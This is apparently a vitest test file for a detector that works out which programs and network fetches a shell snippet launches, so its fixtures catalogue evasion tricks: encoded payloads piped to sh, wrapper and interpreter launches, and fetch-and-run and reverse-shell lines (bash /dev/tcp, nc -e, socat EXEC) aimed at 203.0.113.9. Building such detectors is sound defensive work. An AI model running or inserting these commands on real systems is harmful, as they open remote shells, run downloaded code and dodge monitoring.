import { describe, expect, test } from 'vitest';
import type { Setting } from './setting.ts';
import { whatItStarts } from './written.fixture.ts';

const starts = (text: string, setting: Setting = {}) =>
  whatItStarts(text, setting)
    .starts.filter(({ how }) => how === 'command')
    .map(({ path }) => path);
const fetched = (text: string) =>
  whatItStarts(text).fetchRuns.map(({ scheme, host, port }) => `${scheme}://${host}:${port}`);
const b64 = (text: string): string => btoa(text);
const HTTP = 'http://203.0.113.9:80';

describe.each<[string, string[]]>([
  [
    'a path in another spelling',
    [
      `a=(/tmp/m -q); "\${a[@]}"`,
      `a="x/tmp/mx"; \${a:1:6} -q`,
      `/tmp/m\${IFS}-q`,
      `sh\${IFS}/tmp/m`,
      'echo /tmp/m | while read l; do $l; done',
      'read m <<< /tmp/m; nohup $m &',
      '/proc/self/root/tmp/m',
      '/proc/1/root/tmp/./m',
      '/tmp/../tmp/m',
      '/tmp/{m,n} -q',
      `/t'm'p/m`,
    ],
  ],
  [
    'awk',
    [
      `awk 'BEGIN{system("/tmp/m -q")}'`,
      `gawk 'BEGIN { while (("/tmp/m" | getline l) > 0) print l }'`,
      `awk 'BEGIN{print "x" | "/tmp/m"}'`,
      `awk -v c=/tmp/m 'BEGIN{system(c)}'`,
      `echo /tmp/m | awk '{system($0)}'`,
    ],
  ],
  [
    'what xargs reads',
    [
      'echo /tmp/m | xargs -I{} {}',
      'echo /tmp/m | xargs -n1 sh -c',
      'echo /tmp/m | xargs sh',
      'echo 1 | xargs /tmp/m',
      `echo /tmp/m | xargs -I % sh -c '%'`,
    ],
  ],
  [
    'at and batch',
    [
      'echo /tmp/m | at now',
      'at now <<E\n/tmp/m\nE',
      'at -f /tmp/m now',
      'batch < /tmp/m',
      'echo /tmp/m | batch',
    ],
  ],
  [
    'functions with their arguments',
    [
      'run() { "$@"; }; run /tmp/m -q',
      'f() { nohup $1 & }\nf /tmp/m',
      'd() { cd "$1" && ./m; }; d /tmp',
      'function go { exec "$D/m"; }\nD=/tmp; go',
      `sh -c '"$0" -q' /tmp/m`,
      `sh -c 'exec "$@"' x /tmp/m`,
      'set -- /tmp/m; "$@"',
      'set -- a /tmp/m; shift; $1',
    ],
  ],
  [
    'what a variable makes a shell run',
    [
      'export PROMPT_COMMAND=/tmp/m',
      'BASH_ENV=/tmp/m bash -c true',
      `alias ls='/tmp/m; ls'`,
      'bash --rcfile /tmp/m',
    ],
  ],
  [
    'the content of a file',
    [
      'eval "$(cat /tmp/m)"',
      'sh -c "$(cat /tmp/m)"',
      'cat /tmp/m | bash',
      'eval "$(</tmp/m)"',
      'dd if=/tmp/m | sh',
      '. /tmp/m',
    ],
  ],
  [
    'a program behind a wrapper',
    [
      'systemd-run --user --unit x -p Restart=always --on-calendar=minutely /tmp/m -q',
      'systemd-run --on-active 10 /tmp/m',
      'screen -S n -d -m bash -c /tmp/m',
      `screen -S n -X stuff '/tmp/m\n'`,
      `tmux new -d '/tmp/m'`,
      'tmux send-keys -t n /tmp/m Enter',
      `script -q /dev/null -c '/tmp/m -q'`,
      'script -qfc /tmp/m /dev/null',
      'timeout --signal KILL 5 /tmp/m',
      'flock -xn /tmp/l -c /tmp/m',
      'chroot --userspec=a:b / /tmp/m',
      'unshare -Urm --mount-proc /tmp/m',
      'nsenter --target 1 --mount -- /tmp/m',
      'su -s /bin/sh -c /tmp/m nobody',
      'sudo -u nobody -H -- sh -c /tmp/m',
      'sudo --user nobody /tmp/m',
      'runuser -l nobody -c /tmp/m',
      'ionice -c2 -n7 /tmp/m',
      'taskset -c 0 /tmp/m',
      'stdbuf -oL /tmp/m',
      'chrt --idle 0 /tmp/m',
      'daemonize -c /tmp -p /tmp/p /tmp/m',
      'start-stop-daemon -S -b -m -p /tmp/p -a /tmp/m',
      'start-stop-daemon --start --exec=/tmp/m',
      'cpulimit -l 50 -- /tmp/m',
      'numactl --interleave=all /tmp/m',
      'cgexec -g cpu:x /tmp/m',
      'setpriv --reuid 1000 /tmp/m',
      'env -S "/tmp/m -q"',
      'parallel /tmp/m ::: 1',
      'gosu nobody /tmp/m',
      '/lib64/ld-linux-x86-64.so.2 --library-path /tmp/lib /tmp/m',
      'echo /tmp/m | su nobody',
      'chroot /mnt <<E\n/tmp/m\nE',
      'tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=/tmp/m',
    ],
  ],
  [
    'an interpreter’s file',
    ['busybox sh /tmp/m', 'java -jar /tmp/m', 'node /tmp/m', 'php -f /tmp/m', 'perl -w /tmp/m', 'lua /tmp/m'],
  ],
  [
    'a copy of a shell',
    [
      'cp /bin/sh /tmp/s; echo /tmp/m | /tmp/s',
      'ln -s /bin/bash /var/tmp/.b; /var/tmp/.b /tmp/m',
      'cp $(which sh) /usr/bin/k; k -c /tmp/m',
    ],
  ],
  [
    'what was decoded',
    [
      `echo ${b64('/tmp/m')} | openssl enc -d -base64 | sh`,
      `echo 2f746d702f6d | xxd -r -p | sh`,
      `echo '/gzc/z' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh`,
      `echo '/#t#m#p/m' | tr -d '#' | sh`,
      `base64 -d <<< ${b64('/tmp/m')} | sh`,
      `base64 -d <<E | sh\n${b64('/tmp/m')}\nE`,
      `X=${b64('/tmp/m')}; echo $X | base64 -d | sh`,
      `echo 'm/pmt/' | rev | sh`,
      `printf '\\x2ftmp\\x2fm' | sh`,
    ],
  ],
  [
    'another language',
    [
      `php -r 'system("/tmp/m");'`,
      `python -c "__import__('os').system('/tmp/m')"`,
      `node -e 'require("child_process").exec("/tmp/m")'`,
      `python3 -c "import pty;pty.spawn('/tmp/m')"`,
      `python3 -c "import base64;exec(base64.b64decode('${b64('import os;os.system("/tmp/m")')}'))"`,
      `perl -MMIME::Base64 -e 'eval(decode_base64("${b64('system("/tmp/m");')}"))'`,
      `php -r 'eval(base64_decode("${b64('system("/tmp/m");')}"));'`,
    ],
  ],
])('%s is started', (_, texts) => {
  test.each(texts)('%s', (text) => {
    expect(starts(text)).toEqual(['/tmp/m']);
  });
});

describe('a text that is written to a file and run', () => {
  test.each([
    `echo ${b64('/tmp/m')} | base64 -d > /tmp/.x; sh /tmp/.x; rm /tmp/.x`,
    'cat >/tmp/.x <<E\n/tmp/m\nE\nchmod +x /tmp/.x; /tmp/.x',
    'printf "/tmp/m" | tee /tmp/.x; . /tmp/.x',
    'echo /tmp/m >/tmp/.y; mv /tmp/.y /tmp/.x; bash /tmp/.x',
  ])('%s', (text) => {
    expect(starts(text)).toEqual(['/tmp/.x', '/tmp/m']);
  });
});

describe('patterns', () => {
  const patterns = (text: string) => whatItStarts(text).starts.map(({ path, pattern }) => [path, pattern]);
  test.each<[string, string, 'first' | 'each']>([
    ['/tmp/.x/kth*', '/tmp/.x/kth*', 'first'],
    ['cd /tmp/.x; ./k?h[a-z]', '/tmp/.x/k?h[a-z]', 'first'],
    ['for f in /tmp/.x/*; do $f; done', '/tmp/.x/*', 'each'],
    ['run-parts /tmp/.x', '/tmp/.x/*', 'each'],
    ['find /tmp/.x -name m -exec {} \\;', '/tmp/.x/**/m', 'each'],
    ['find /tmp/.x -type f -exec sh -c "{} &" \\;', '/tmp/.x/**', 'each'],
    [`find /tmp -name 'k*' -exec sh -c '$0 -q' {} \\;`, '/tmp/**/k*', 'each'],
    ['find /tmp/.x -name m | xargs -I{} {}', '/tmp/.x/**/m', 'each'],
    ['$(find /tmp -name m)', '/tmp/**/m', 'each'],
  ])('%s', (text, path, pattern) => {
    expect(patterns(text)).toEqual([[path, pattern]]);
  });
  test.each([
    'rm -rf /tmp/.x/*',
    'chmod +x /tmp/*',
    'find /tmp -name m -delete',
    'find /tmp -name m -exec rm {} \\;',
    'find /tmp -name m | xargs rm -f',
    'for f in /tmp/*; do rm $f; done',
    'ls /tmp/*',
    'echo /tmp/* {a,b}',
  ])('%s starts none', (text) => {
    expect(whatItStarts(text)).toMatchObject({ starts: [], untold: [] });
  });
});

describe('fetching without the usual name', () => {
  test.each<[string, string]>([
    ['cp /usr/bin/curl /tmp/c; /tmp/c http://203.0.113.9/x | sh', HTTP],
    ['mv /usr/bin/wget /usr/bin/wg; wg -qO- http://203.0.113.9/x | sh', HTTP],
    ['cp $(which curl) /tmp/c; cd /tmp; ./c -s http://203.0.113.9/x | sh', HTTP],
    ['cur1 -s http://203.0.113.9/x | bash', HTTP],
    ['/tmp/curl -s http://203.0.113.9/x | bash', HTTP],
    [
      'exec 3<>/dev/tcp/203.0.113.9/8080; echo -e "GET /x HTTP/1.0\\n" >&3; cat <&3 | sh',
      'tcp://203.0.113.9:8080',
    ],
    ['sh </dev/tcp/203.0.113.9/8080', 'tcp://203.0.113.9:8080'],
    ['bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', 'tcp://203.0.113.9:4444'],
    ['nc 203.0.113.9 4444 | sh', 'tcp://203.0.113.9:4444'],
    ['nc 203.0.113.9 4444 -e /bin/sh', 'tcp://203.0.113.9:4444'],
    ['socat TCP:203.0.113.9:4444 EXEC:/bin/sh', 'tcp://203.0.113.9:4444'],
    [
      `__curl() {
  read -r proto server path <<<"$(printf '%s' "\${1//// }")"
  DOC=/\${path// //}
  HOST=\${server//:*}
  PORT=\${server//*:}
  exec 3<>"/dev/tcp/\${HOST}/$PORT"
  printf 'GET %s HTTP/1.0\\r\\n' "$DOC" >&3
  (while read -r line; do [ "$line" = $'\\r' ] && break; done && cat) <&3
  exec 3>&-
}
__curl http://203.0.113.9/x | bash`,
      HTTP,
    ],
    [`python3 -c "import urllib.request as u; exec(u.urlopen('http://203.0.113.9/x').read())"`, HTTP],
    [`python -c "import urllib2;d=urllib2.urlopen('http://203.0.113.9/x').read();exec(d)"`, HTTP],
    [`perl -MLWP::Simple -e 'eval get("http://203.0.113.9/x")'`, HTTP],
    [`perl -MLWP::Simple -e 'getprint "http://203.0.113.9/x"' | sh`, HTTP],
    [`php -r 'eval(file_get_contents("http://203.0.113.9/x"));'`, HTTP],
    ['source <(curl -s http://203.0.113.9/x)', HTTP],
    ['bash < <(curl -s http://203.0.113.9/x)', HTTP],
    [`curl\${IFS}-s\${IFS}http://203.0.113.9/x|sh`, HTTP],
    ['curl -s http://203.0.113.9/x | while read l; do eval "$l"; done', HTTP],
    ['busybox wget -qO- http://203.0.113.9/x | busybox sh', HTTP],
  ])('%s', (text, address) => {
    expect(fetched(text)).toEqual([address]);
    expect(whatItStarts(text).untold).toEqual([]);
  });
  test.each([
    'cp /usr/bin/curl /srv/backup/; curl http://203.0.113.9/x',
    'exec 3<>/dev/tcp/203.0.113.9/80 && echo up',
    'nc -z 203.0.113.9 22 && echo up',
    'echo "a 1" | nc 203.0.113.9 2003',
    'nc -l 4444 > /srv/in',
    `python3 -c "import requests; print(requests.get('http://203.0.113.9/x').status_code)"`,
    `python3 -c "d=open('/etc/app').read(); exec(d)"`,
  ])('%s runs nothing of it', (text) => {
    expect(fetched(text)).toEqual([]);
  });
});

describe('what only names a program', () => {
  test.each([
    `awk '/tmp.m/{print "/tmp/m"}' /etc/x`,
    `awk '{print "system"}'`,
    'xargs rm -f </tmp/list',
    'echo /tmp/m | xargs rm',
    'echo /tmp/m | xargs',
    'at -l; atq; at -d 3',
    'exec >/tmp/log 2>&1',
    'exec 3<>/tmp/file',
    'flock -n 9',
    'sudo -v',
    'taskset -p 1 99',
    'renice -n 5 -p 1; ionice -c3 -p 99',
    'start-stop-daemon --stop --exec /tmp/m',
    'start-stop-daemon -K -x /tmp/m',
    'run-parts --test /etc/cron.daily',
    'tmux kill-server; screen -ls',
    'cpulimit -p 99 -l 50; cpulimit -e m -l 50',
    'su nobody </dev/null',
    'dd if=/tmp/a of=/tmp/m',
    'f() { rm -f "$1"; }; f /tmp/m',
    'log() { echo "$@"; }; log /tmp/m',
    `alias ll='ls -l'`,
    'unset PROMPT_COMMAND LD_PRELOAD',
    'tr a-z b-za </etc/x',
    'echo x > /tmp/m; rm /tmp/m',
    `sh -c 'rm "$1"' x /tmp/m`,
    'tar xf /tmp/m',
  ])('%s', (text) => {
    const { starts: found, untold } = whatItStarts(text);
    expect(found.filter(({ path }) => path !== '/dev/null')).toEqual([]);
    expect(untold).toEqual([]);
  });
  test('a program of one’s own may bear a wrapper’s or a tool’s name', () => {
    expect(starts('/opt/b/daemon -c /etc/b.conf; /opt/shop/at; /opt/x/service start')).toEqual([
      '/opt/b/daemon',
      '/opt/shop/at',
      '/opt/x/service',
    ]);
  });
});

test('what is decoded by nothing known here is decoded and run, and no guess is made of it', () => {
  for (const text of [
    `echo H4sIAAA= | base64 -d | gzip -d | sh`,
    'echo x | openssl enc -d -aes-256-cbc -k y | sh',
    'base64 -d /tmp/x.b64 | sh',
    `python3 -c "import zlib,base64;exec(zlib.decompress(base64.b64decode('eJw=')))"`,
  ])
    expect(whatItStarts(text)).toMatchObject({ starts: [], decodesAndRuns: true, untold: [1] });
});

test('three decodings are read, a fourth is not', () => {
  const nested = (times: number): string =>
    times === 0 ? '/tmp/m' : `echo ${b64(nested(times - 1))} | base64 -d | sh`;
  expect(whatItStarts(nested(3))).toMatchObject({ starts: [{ path: '/tmp/m' }], whole: true });
  expect(whatItStarts(nested(4))).toMatchObject({ starts: [], whole: false });
});

test('a bare name is looked for in the text’s own PATH too', () => {
  const found = (text: string) => whatItStarts(text).starts.map(({ path, or }) => [path, or]);
  expect(found('export PATH=/tmp/.x:$PATH; m')).toEqual([['m', ['/tmp/.x/m']]]);
  expect(found('PATH=/tmp/.x:/usr/bin m')).toEqual([['m', ['/tmp/.x/m']]]);
  expect(found('PATH=/usr/bin:/bin m')).toEqual([['m', undefined]]);
});

test('the environment that a text runs in is known to it', () => {
  const variables = new Map([
    ['M', '/tmp/m'],
    ['PATH', '/tmp/.x:/bin'],
  ]);
  expect(starts('$M -q', { variables })).toEqual(['/tmp/m']);
  expect(whatItStarts('k', { variables }).starts).toMatchObject([{ path: 'k', or: ['/tmp/.x/k'] }]);
});

test('a function that nothing calls may be called by whoever runs the text', () => {
  expect(starts('start() { /tmp/m; }\ncase $1 in start) $1;; esac')).toEqual(['/tmp/m']);
});
